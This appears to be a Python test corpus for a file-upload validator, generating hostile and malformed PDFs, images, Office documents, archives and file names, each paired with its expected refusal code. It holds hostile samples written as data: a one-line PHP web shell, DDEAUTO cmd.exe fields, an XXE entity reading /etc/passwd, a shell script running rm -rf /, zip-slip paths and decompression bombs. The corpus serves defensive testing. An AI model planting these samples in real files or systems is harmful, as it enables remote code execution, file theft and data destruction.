# ruff: noqa: E501 - a table
"""Hostile and broken files, each with the code of its refusal.

`python -m tests.publishing.files.corpus FOLDER` writes them, to try them on anything else.
"""

import io
import struct
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pikepdf

from publishing.files.limits import Kind
from tests.publishing.files import archives, offices, pdfs, pictures
from tests.publishing.files.archives import archive, patched, rar4, rar5, rezipped, zipped
from tests.publishing.files.offices import docx
from tests.publishing.files.pdfs import pdf, raw_pdf
from tests.publishing.files.pictures import picture

PROGRAM = b"MZ\x90\x00" + bytes(200)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(100)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"/S /JavaScript /JS (app.alert\\(1\\))"


@dataclass(frozen=True)
class Case:
    """One bad file."""

    title: str
    name: str
    code: str
    make: Callable[[], bytes]

    @property
    def kind(self) -> Kind:
        return "image" if self.name.endswith((".jpg", ".png", ".gif", ".webp", ".heic")) else "document"


def _script_in(**where: bytes) -> bytes:
    return raw_pdf(b"<< %s >>" % SCRIPT, **where)


def _pages_with_script(key: bytes) -> bytes:
    return pdfs.PAGE.replace(b"/Type /Page", b"/Type /Page " + key)


def _deep(tag: str = "w:p", depth: int = 100_000) -> bytes:
    inner = f"<{tag}>" * depth + f"</{tag}>" * depth
    return offices.word_body(inner)


def _word(inner: str) -> Callable[[], bytes]:
    return lambda: rezipped(docx(), {"word/document.xml": offices.word_body(inner)})


def _command(*pieces: str) -> Callable[[], bytes]:
    begin, end = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return _word(begin + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + end)


PDFS = (
    Case("script on opening", "a.pdf", "pdf_script", lambda: _script_in(catalog=b"/OpenAction 4 0 R")),
    Case("script with a hidden name", "a.pdf", "pdf_script",
         lambda: raw_pdf(b"<< /S /J#61vaScr#69pt /J#53 (x) >>", catalog=b"/OpenAction 4 0 R")),
    Case("script in the tree of names", "a.pdf", "pdf_script",
         lambda: _script_in(catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>")),
    Case("script when a page opens", "a.pdf", "pdf_script",
         lambda: _script_in(page=_pages_with_script(b"/AA << /O 4 0 R >>"))),
    Case("script of an annotation", "a.pdf", "pdf_script", lambda: raw_pdf(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << %s >> >>" % SCRIPT,
        page=_pages_with_script(b"/Annots [4 0 R]"))),
    Case("script in a packed object", "a.pdf", "pdf_script",
         lambda: pdfs.in_object_stream(_script_in(catalog=b"/OpenAction 4 0 R"))),
    Case("script named by another object", "a.pdf", "pdf_script", lambda: raw_pdf(
        b"<< /S 5 0 R /JS (x) >>", b"/JavaScript", catalog=b"/OpenAction 4 0 R")),
    Case("script of a rendition", "a.pdf", "pdf_script",
         lambda: raw_pdf(b"<< /S /Rendition /JS (x) >>", catalog=b"/OpenAction 4 0 R")),
    Case("script behind a password of the owner", "a.pdf", "pdf_script", lambda: pdfs.saved(
        pikepdf.open(io.BytesIO(_script_in(catalog=b"/OpenAction 4 0 R"))),
        encryption=pikepdf.Encryption(owner="เจ้าของ", user=""))),
    Case("starts a program", "a.pdf", "pdf_launch",
         lambda: raw_pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    Case("brings in data", "a.pdf", "pdf_launch",
         lambda: raw_pdf(catalog=b"/OpenAction << /S /ImportData /F (a.fdf) >>")),
    Case("xfa form", "a.pdf", "pdf_xfa", lambda: raw_pdf(
        pdfs.stream(b"<xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>")),
    Case("carries a program", "a.pdf", "pdf_program", lambda: pdfs.carrying("ข้อมูล.dat", PROGRAM)),
    Case("carries what is called a program", "a.pdf", "pdf_program", lambda: pdfs.carrying("อ่านก่อน.vbs", b"x")),
    Case("carries macros", "a.pdf", "pdf_program",
         lambda: pdfs.carrying("แผน.docx", rezipped(docx(), {"word/vbaProject.bin": b"x"}))),
    Case("carries an archive", "a.pdf", "pdf_archive", lambda: pdfs.carrying("ทั้งหมด.zip", archive("a.txt"))),
    Case("locked", "a.pdf", "encrypted", pdfs.locked_pdf),
    Case("locked with AES", "ลับ.pdf", "encrypted", lambda: pdfs.encrypted_pdf(owner="a", user="b")),
    Case("locked in an unknown way", "a.pdf", "encrypted",
         lambda: pdfs.locked_pdf().replace(b"/Standard", b"/Strange9")),
    Case("bomb", "a.pdf", "bomb", pdfs.bomb),
    Case("bomb in a bomb", "a.pdf", "bomb", lambda: pdfs.bomb(layers=2)),
    Case("bomb of objects", "a.pdf", "bomb", pdfs.object_stream_bomb),
    Case("cut short", "a.pdf", "truncated", lambda: pdf(3)[: len(pdf(3)) // 2]),
    Case("head only", "a.pdf", "truncated", lambda: b"%PDF-1.7\n"),
    Case("nothing between head and end", "a.pdf", "truncated", lambda: b"%PDF-1.7\n" + bytes(300) + b"%%EOF"),
    Case("no page", "a.pdf", "truncated", lambda: pdf(0)),
    Case("pages in a ring", "a.pdf", "truncated",
         lambda: raw_pdf(page=b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>")),
    Case("arrays without end", "a.pdf", "truncated",
         lambda: raw_pdf(b"<< /JS %s 1 %s >>" % (b"[" * 50_000, b"]" * 50_000))),
    Case("junk before the head", "a.pdf", "not_the_type_named", lambda: b"GARBAGE\n" + pdf()),
    Case("page of the web", "ประกาศ.pdf", "not_the_type_named", lambda: HTML),
    Case("program", "a.pdf", "not_the_type_named", lambda: PROGRAM),
    Case("also a zip", "a.pdf", "polyglot", lambda: pdf() + archive("a.txt")),
    Case("also a web page", "a.pdf", "polyglot", lambda: pdf().replace(b"\n", b"\n%" + HTML + b"\n", 1)),
    Case("web page after the end", "a.pdf", "polyglot", lambda: pdf() + HTML),
)  # fmt: skip

PICTURES = (
    Case("with a zip", "a.jpg", "polyglot", lambda: picture("jpeg") + archive("a.txt")),
    Case("with a rar", "a.jpg", "polyglot", lambda: picture("jpeg") + rar5({"a.txt": b"x"})),
    Case("with a web page", "a.jpg", "polyglot", lambda: picture("jpeg") + HTML),
    Case("with PHP", "a.jpg", "polyglot", lambda: picture("jpeg", progressive=True) + PHP),
    Case("with a program", "a.jpg", "polyglot", lambda: picture("jpeg") + PROGRAM),
    Case("with a PDF", "a.jpg", "polyglot", lambda: picture("jpeg") + pdf()),
    Case("also a Java archive", "a.gif", "polyglot",
         lambda: picture("gif") + zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"})),
    Case("with an archive", "a.png", "polyglot", lambda: picture("png") + archive("a.txt")),
    Case("with unknown bytes behind", "a.png", "polyglot", lambda: picture("png") + b"unknown bytes"),
    Case("with a page behind", "a.webp", "polyglot", lambda: picture("webp") + HTML),
    Case("with a program behind", "a.heic", "polyglot", lambda: pictures.heic() + PROGRAM),
    Case("page of the web", "a.gif", "not_the_type_named", lambda: HTML),
    Case("svg", "a.png", "not_the_type_named", lambda: SVG),
    Case("program", "a.jpg", "not_the_type_named", lambda: PROGRAM),
    Case("another picture", "a.jpg", "not_the_type_named", lambda: picture("png")),
    Case("a film", "a.heic", "not_the_type_named", lambda: b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + bytes(64)),
    Case("an avif", "a.heic", "not_the_type_named", lambda: picture("avif")),
    Case("called svg", "a.svg", "type_not_allowed", lambda: SVG),
    Case("bomb", "a.png", "too_many_pixels", lambda: pictures.png_of_zeros(20_000, 20_000)),
    Case("comment that is a bomb", "a.png", "truncated", pictures.png_with_text_bomb),
    Case("bomb", "a.gif", "too_many_pixels", lambda: pictures.gif_header(65_535, 65_535)),
    Case("bomb in the second frame", "a.gif", "too_many_pixels",
         lambda: picture("gif", (10, 10))[:-1] + pictures.gif_header(8000, 8000)[19:]),
    Case("bomb", "a.jpg", "too_many_pixels", lambda: pictures.jpeg_header(60_000, 60_000)),
    Case("bomb", "a.webp", "too_many_pixels", lambda: pictures.webp_header(b"VP8X", 16_000, 16_000)),
    Case("bomb", "a.heic", "too_many_pixels", lambda: pictures.heic_header(30_000, 30_000)),
    Case("cut short", "a.jpg", "truncated", lambda: picture("jpeg")[:-400]),
    Case("cut short", "a.png", "truncated", lambda: picture("png")[:-400]),
    Case("cut short", "a.webp", "truncated", lambda: picture("webp")[:-400]),
    Case("cut short", "a.gif", "truncated", lambda: picture("gif")[:-400]),
    Case("cut short", "a.heic", "truncated", lambda: pictures.heic()[:-400]),
    Case("head only", "a.heic", "truncated", lambda: pictures.heic()[:40]),
)  # fmt: skip

OFFICES = (
    Case("macros", "a.docx", "macros", lambda: rezipped(docx(), {"word/vbaProject.bin": b"x"})),
    Case("macros elsewhere", "a.docx", "macros", lambda: rezipped(docx(), {"word/customXml/VBAPROJECT.bin": b"x"})),
    Case("macros under another name", "a.docx", "macros", lambda: rezipped(
        docx(), {"word/x.bin": offices.compound({"_VBA_PROJECT": b"x"})})),
    Case("macros by the declared type", "a.docx", "macros", lambda: rezipped(docx(), {
        "[Content_Types].xml": offices.TYPES.replace(b"application/xml",
                                                     b"application/vnd.ms-word.document.macroEnabled.main+xml")})),
    Case("old macros", "a.xlsx", "macros",
         lambda: rezipped(offices.xlsx(), {"xl/macrosheets/sheet1.xml": b"<x/>"})),
    Case("controls", "a.docx", "active_content",
         lambda: rezipped(docx(), {"word/activeX/activeX1.xml": b"<x/>"})),
    Case("command in a field", "a.docx", "command", _command(r"DDEAUTO c:\\windows\\cmd.exe")),
    Case("command in pieces", "a.docx", "command", _command("DD", "EAUTO", " cmd")),
    Case("command in a simple field", "a.docx", "command", _word('<w:fldSimple w:instr="DDE cmd"/>')),
    Case("command of a workbook", "a.xlsx", "command", lambda: rezipped(offices.xlsx(), {
        "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="x"><ddeLink ddeService="cmd"/></externalLink>'})),
    Case("template from elsewhere", "a.docx", "fetches", lambda: rezipped(docx(), {
        "word/_rels/settings.xml.rels": offices.relation("attachedTemplate", "https://example.com/a.dotm")})),
    Case("template from a share", "a.docx", "fetches", lambda: rezipped(docx(), {
        "word/_rels/settings.xml.rels": offices.relation("attachedTemplate", r"file:///\\203.0.113.5\s\a.dotm")})),
    Case("object from elsewhere", "a.docx", "fetches", lambda: rezipped(docx(), {
        "word/_rels/x.xml.rels": offices.relation("oleObject", "mhtml:http://example.com/a.html!x-usc:http://x")})),
    Case("frame from elsewhere", "a.docx", "fetches", lambda: rezipped(docx(), {
        "word/_rels/x.xml.rels": offices.relation("frame", "//example.com/a")})),
    Case("a program embedded", "a.docx", "program_embedded", lambda: rezipped(docx(), {
        "word/embeddings/oleObject1.bin": offices.compound({"\x01Ole10Native": offices.native("คู่มือ.pdf", PE)})})),
    Case("what is called a program embedded", "a.docx", "program_embedded", lambda: rezipped(docx(), {
        "word/embeddings/oleObject1.bin": offices.compound({"\x01Ole10Native": offices.native("คู่มือ.bat", b"x")})})),
    Case("a program as a picture", "a.docx", "program_embedded",
         lambda: rezipped(docx(), {"word/media/image1.png": ELF})),
    Case("an archive embedded", "a.docx", "nested_archive",
         lambda: rezipped(docx(), {"word/embeddings/a.bin": archive("a.txt")})),
    Case("macros in a workbook within", "a.docx", "macros", lambda: rezipped(docx(), {
        "word/embeddings/a.xlsx": rezipped(offices.xlsx(), {"xl/vbaProject.bin": b"x"})})),
    Case("billion laughs", "a.docx", "xml_bomb",
         lambda: rezipped(docx(), {"word/document.xml": offices.billion_laughs()})),
    Case("an entity from elsewhere", "a.docx", "xml_bomb", lambda: rezipped(docx(), {
        "docProps/custom.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'})),
    Case("too deep", "a.docx", "xml_bomb", lambda: rezipped(docx(), {"word/document.xml": _deep()})),
    Case("broken part", "a.docx", "truncated", lambda: rezipped(docx(), {"word/document.xml": b"<w:doc"})),
    Case("locked", "a.docx", "encrypted", lambda: offices.compound({"EncryptedPackage": bytes(5000), "EncryptionInfo": b"x"})),
    Case("of the old kind", "a.docx", "not_the_type_named", lambda: offices.compound({"WordDocument": b"x"})),
    Case("another program's", "a.docx", "not_the_type_named", lambda: offices.xlsx()),
    Case("only a zip", "a.docx", "not_the_type_named", lambda: archive("word/document.xml")),
    Case("cut short", "a.docx", "truncated", lambda: docx()[:-100]),
    Case("list broken", "a.xlsx", "truncated", lambda: offices.xlsx().replace(b"PK\x01\x02", b"PK\xff\xff")),
    Case("sheet that is a bomb", "a.xlsx", "bomb", lambda: rezipped(offices.xlsx(), {
        "xl/worksheets/sheet2.xml": b"<x>" + b" " * 60_000_000 + b"</x>"})),
)  # fmt: skip

ARCHIVES = (
    Case("zip in a zip", "a.zip", "nested_archive", lambda: zipped({"ข.zip": archive("a.txt")})),
    Case("zip called pdf", "a.zip", "nested_archive", lambda: zipped({"ข.pdf": archive("a.txt")})),
    Case("rar in a zip", "a.zip", "nested_archive", lambda: zipped({"ข.rar": rar5({"a.txt": b"x"})})),
    Case("7z called txt", "a.zip", "nested_archive", lambda: zipped({"a.txt": b"7z\xbc\xaf\x27\x1c" + bytes(90)})),
    Case("tar called txt", "a.zip", "nested_archive", lambda: zipped({"a.txt": bytes(257) + b"ustar" + bytes(250)})),
    Case("gz called csv", "a.zip", "nested_archive", lambda: zipped({"a.csv": b"\x1f\x8b\x08" + bytes(90)})),
    Case("tar.gz by its name", "a.zip", "nested_archive", lambda: zipped({"a.tar.gz": b"x"})),
    Case("program", "a.zip", "program_inside", lambda: zipped({"ติดตั้ง.exe": PROGRAM})),
    Case("program called pdf", "a.zip", "program_inside", lambda: zipped({"ประกาศ.pdf": PROGRAM})),
    Case("program of Linux called txt", "a.zip", "program_inside", lambda: zipped({"a.txt": ELF})),
    Case("program of macOS", "a.zip", "program_inside", lambda: zipped({"a.txt": b"\xcf\xfa\xed\xfe" + bytes(90)})),
    Case("shell script called txt", "a.zip", "program_inside", lambda: zipped({"a.txt": b"#!/bin/sh\nrm -rf /"})),
    Case("shortcut", "a.zip", "program_inside", lambda: zipped({"ประกาศ.pdf.lnk": b"L\0\0\0"})),
    Case("script for Windows", "a.zip", "program_inside", lambda: zipped({"a.js": b"x", "b.pdf": pdf()})),
    Case("script with a dot behind", "a.zip", "program_inside", lambda: zipped({"a.vbs. ": b"x"})),
    Case("web page", "a.zip", "type_inside", lambda: zipped({"a.html": HTML})),
    Case("svg", "a.zip", "type_inside", lambda: zipped({"a.svg": SVG})),
    Case("no extension", "a.zip", "type_inside", lambda: zipped({"README": b"x"})),
    Case("web page called txt", "a.zip", "not_the_type_named", lambda: zipped({"a.txt": HTML})),
    Case("zeros called csv", "a.zip", "not_the_type_named", lambda: zipped({"a.csv": bytes(90)})),
    Case("pdf with a script inside", "a.zip", "pdf_script",
         lambda: zipped({"ประกาศ.pdf": _script_in(catalog=b"/OpenAction 4 0 R")})),
    Case("macros inside", "a.zip", "macros",
         lambda: zipped({"แผน.docx": rezipped(docx(), {"word/vbaProject.bin": b"x"})})),
    Case("damaged picture inside", "a.zip", "truncated", lambda: zipped({"a.jpg": picture("jpeg")[:-400]})),
    Case("path upwards", "a.zip", "unsafe_path", lambda: zipped({"../../a.txt": b"x"})),
    Case("path from the root", "a.zip", "unsafe_path", lambda: zipped({"/etc/a.txt": b"x"})),
    Case("path with a drive", "a.zip", "unsafe_path", lambda: zipped({"C:a.txt": b"x"})),
    Case("path of Windows", "a.zip", "unsafe_path", lambda: zipped({"..\\a.txt": b"x"})),
    Case("link", "a.zip", "unsafe_path", archives.linked_zip),
    Case("hidden letters", "a.zip", "unsafe_name_inside", lambda: zipped({"a\u202efdp.txt": b"x"})),
    Case("name too long", "a.zip", "unsafe_name_inside", lambda: zipped({"ก" * 300 + ".txt": b"x"})),
    Case("locked", "a.zip", "encrypted", archives.locked_zip),
    Case("bomb", "a.zip", "bomb", lambda: zipped({"a.txt": bytes(40_000_000)})),
    Case("bomb of bombs", "a.zip", "nested_archive",
         lambda: zipped({f"{n}.zip": zipped({"a.txt": bytes(2_000_000)}) for n in range(5)})),
    Case("files over each other", "a.zip", "overlapping", archives.overlapping_zip),
    Case("sizes that lie", "a.zip", "inconsistent", archives.lying_zip),
    Case("names that lie", "a.zip", "inconsistent",
         lambda: patched(archive("a.txt"), (b"PK\x01\x02", 46, b"b"))),
    Case("a file not in the list", "a.zip", "polyglot", archives.zip_with_a_hidden_file),
    Case("something before", "a.zip", "not_the_type_named", lambda: PROGRAM + archive("a.txt")),
    Case("something behind", "a.zip", "polyglot", lambda: archive("a.txt") + HTML),
    Case("too many", "a.zip", "too_many_entries", lambda: zipped({f"{n}.txt": b"" for n in range(1001)})),
    Case("unusual packing", "a.zip", "unusual_packing", lambda: zipped({"a.txt": b"x" * 99}, 14)),
    Case("damaged file", "a.zip", "truncated", lambda: patched(archive("a.txt"), (b"a.txt", 5, b"\xff\xff\xff\xff"))),
    Case("cut short", "a.zip", "truncated", lambda: archive("a.txt")[:-30]),
    Case("zip called rar", "a.rar", "not_the_type_named", lambda: archive("a.txt")),
    Case("zip in a rar", "a.rar", "nested_archive", lambda: rar5({"a.zip": archive("a.txt")})),
    Case("zip called txt in a rar", "a.rar", "nested_archive", lambda: rar5({"a.txt": archive("a.txt")})),
    Case("program", "a.rar", "program_inside", lambda: rar5({"ประกาศ.pdf": PROGRAM})),
    Case("script packed", "a.rar", "program_inside", lambda: rar5({"a.vbs": b"x"}, method=3)),
    Case("program of old", "a.rar", "program_inside", lambda: rar4({"a.scr": b"x"}, method=0x33)),
    Case("web page", "a.rar", "type_inside", lambda: rar4({"a.html": HTML})),
    Case("path upwards", "a.rar", "unsafe_path", lambda: rar5({"../a.txt": b"x"})),
    Case("link", "a.rar", "unsafe_path", archives.rar5_link),
    Case("locked", "a.rar", "encrypted", archives.rar5_locked),
    Case("locked with its names", "a.rar", "encrypted", archives.rar5_locked_names),
    Case("locked of old", "a.rar", "encrypted", lambda: rar4({"a.txt": b"x"}, flags=0x04)),
    Case("bomb", "a.rar", "bomb", lambda: rar5({"a.txt": b"x" * 99}, method=3, size=10**12)),
    Case("one of several", "a.rar", "split_archive", lambda: rar5({"a.txt": b"x"}, end=1)),
    Case("one of several of old", "a.rar", "split_archive", lambda: rar4({"a.txt": b"x"}, flags=0x02)),
    Case("something behind", "a.rar", "polyglot", lambda: rar5({"a.txt": b"x"}) + HTML),
    Case("damaged file", "a.rar", "truncated", lambda: patched(rar5({"a.txt": b"abcdef"}), (b"abcdef", 0, b"X"))),
    Case("cut short", "a.rar", "truncated", lambda: rar5({"a.txt": b"x" * 99})[:-40]),
    Case("head only", "a.rar", "truncated", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(40)),
)  # fmt: skip

NAMES = (
    Case("turned name", "คู่มือ\u202efdp.zip", "unsafe_name", lambda: archive("a.txt")),
    Case("name with a bell", "a\x07.pdf", "unsafe_name", pdf),
    Case("name too long", "ก" * 260 + ".pdf", "name_too_long", pdf),
    Case("empty", "a.pdf", "empty", lambda: b""),
    Case("program by its name", "setup.exe", "type_not_allowed", lambda: PROGRAM),
    Case("two extensions", "a.pdf.exe", "type_not_allowed", pdf),
    Case("macros by the name", "a.docm", "type_not_allowed", docx),
    Case("too large", "a.pdf", "too_large", lambda: pdf() + bytes(51 * 1024 * 1024)),
)

CASES = (*PDFS, *PICTURES, *OFFICES, *ARCHIVES, *NAMES)


def write(folder: Path) -> int:
    """Write every file as `NNN-code.ext`. Returns how many."""
    folder.mkdir(parents=True, exist_ok=True)
    for number, case in enumerate(CASES, 1):
        extension = case.name.rpartition(".")[2]
        (folder / f"{number:03}-{case.code}.{extension}").write_bytes(case.make())
    return len(CASES)


if __name__ == "__main__":
    print(write(Path(sys.argv[1])), "files")
